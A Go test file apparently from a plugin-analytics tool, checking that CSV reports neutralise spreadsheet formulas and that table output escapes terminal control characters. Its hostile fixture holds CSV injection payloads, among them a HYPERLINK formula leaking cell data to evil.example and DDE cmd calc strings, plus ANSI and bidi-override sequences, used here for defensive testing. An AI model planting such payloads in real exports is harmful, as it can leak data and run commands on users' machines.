package main

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/abacushq/abacus/internal/insights"
)

// ptr returns a pointer to v: a published number in a report.
func ptr[T any](v T) *T { return &v }

// hostileReport is a plugins report whose plugin names a client chose.
func hostileReport() *insights.Report {
	return &insights.Report{Report: "plugins", From: "2026-11-01", To: "2026-11-30", K: 5, ActiveProjects: 40,
		Summary: insights.PluginsSummary{},
		Rows: []insights.PluginRow{
			{Plugin: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Projects: 10, Share: 0.25, PreviousProjects: ptr(12), Change: ptr(-2)},
			{Plugin: "+cmd|' /C calc'!A0", Projects: 9, PreviousProjects: ptr(9), Change: ptr(0)},
			{Plugin: "-2+3+cmd|' /C calc'!A0", Projects: 8},
			{Plugin: "@SUM(1+1)*cmd|' /C calc'!A0", Projects: 7},
			{Plugin: "\t=1+1", Projects: 6},
			{Plugin: "\r=1+1", Projects: 6},
			{Plugin: "-12", Projects: 6},
			{Plugin: "seo", Projects: 5},
			{Plugin: "red\x1b[31m\x07bell\rover\nline\x00nul\u202eevil\\x", Projects: 5},
		}}
}

// CSV cells a spreadsheet would evaluate start with a quote; plain numbers,
// negative ones included, stay numbers; the CSV still parses to the values.
func TestCSVNeutralisesFormulas(t *testing.T) {
	var out bytes.Buffer
	if err := printReport(&out, hostileReport(), "csv"); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, out.String())
	}
	want := []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"'+cmd|' /C calc'!A0",
		"'-2+3+cmd|' /C calc'!A0",
		"'@SUM(1+1)*cmd|' /C calc'!A0",
		"'\t=1+1",
		"'\r=1+1",
		"-12",
		"seo",
	}
	for i, w := range want {
		if got := records[i+1][0]; got != w {
			t.Errorf("row %d: plugin cell %q, want %q", i+1, got, w)
		}
	}
	if got := records[1][4]; got != "-2" {
		t.Errorf("the change column of row 1 is %q, want the number -2", got)
	}
	if got := records[2][4]; got != "0" {
		t.Errorf("the change column of row 2 is %q, want the number 0", got)
	}
	number := regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?$`)
	for _, r := range records {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !number.MatchString(c) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
}

// CSV is for machines: numbers as the JSON has them, never with thousands
// separators, percent signs or units; the table keeps them for people.
func TestCSVCarriesRawNumbers(t *testing.T) {
	rep := &insights.Report{Report: "errors", From: "2026-11-01", To: "2026-11-30", K: 5, ActiveProjects: 40000,
		Summary: insights.ErrorsSummary{},
		Rows:    []insights.ErrorRow{{Code: "E_ADMIN_BUILD_CRASH", Events: 1234567, Projects: 1179, FirstSeen: "2026-11-09", LastSeen: "2026-11-30"}}}
	var out bytes.Buffer
	if err := printReport(&out, rep, "csv"); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, out.String())
	}
	want := [][]string{
		{"code", "events", "projects", "firstSeen", "lastSeen", "topVersion", "topOS", "topRuntimeMajor"},
		{"E_ADMIN_BUILD_CRASH", "1234567", "1179", "2026-11-09", "2026-11-30", "", "", ""},
	}
	if !slices.EqualFunc(records, want, slices.Equal) {
		t.Errorf("CSV %q, want %q", records, want)
	}
	rep.Rows = []insights.SetupRow{{Dimension: "os", Value: "windows", Projects: 1500, P50Ms: ptr[int64](397089), CompletionRate: 0.925}}
	out.Reset()
	if err := printReport(&out, rep, "csv"); err != nil {
		t.Fatal(err)
	}
	if got, want := out.String(), "dimension,value,projects,p50Ms,p90Ms,completionRate\nos,windows,1500,397089,,0.925\n"; got != want {
		t.Errorf("CSV %q, want %q", got, want)
	}
	out.Reset()
	if err := printReport(&out, rep, "table"); err != nil {
		t.Fatal(err)
	}
	if s := out.String(); !strings.Contains(s, "1,500") || !strings.Contains(s, "92.5%") {
		t.Errorf("the table lost its human numbers:\n%s", s)
	}
}

// The table shows control characters as escapes: the terminal gets no ESC,
// BEL, CR, NUL, stray newline or bidirectional override from a stored value.
func TestTableEscapesControlCharacters(t *testing.T) {
	var out bytes.Buffer
	if err := printReport(&out, hostileReport(), "table"); err != nil {
		t.Fatal(err)
	}
	s := out.String()
	for _, bad := range []string{"\x1b", "\x07", "\r", "\x00", "\u202e", "\t"} {
		if strings.Contains(s, bad) {
			t.Errorf("the table holds %q:\n%s", bad, s)
		}
	}
	// Below the header line, one line a row: a value's newline would add one.
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	header := slices.IndexFunc(lines, func(l string) bool {
		return strings.HasPrefix(strings.Join(strings.Fields(l), " "), "plugin projects ")
	})
	if header < 0 {
		t.Fatalf("no header line in the table:\n%s", s)
	}
	if n, want := len(lines)-header-1, len(hostileReport().Rows.([]insights.PluginRow)); n != want {
		t.Errorf("the table has %d lines below its header for %d rows; a value's newline broke a row:\n%s", n, want, s)
	}
	if want := `red\x1b[31m\x07bell\rover\nline\x00nul\u202eevil\\x`; !strings.Contains(s, want) {
		t.Errorf("the table does not show the escaped value %q:\n%s", want, s)
	}
}
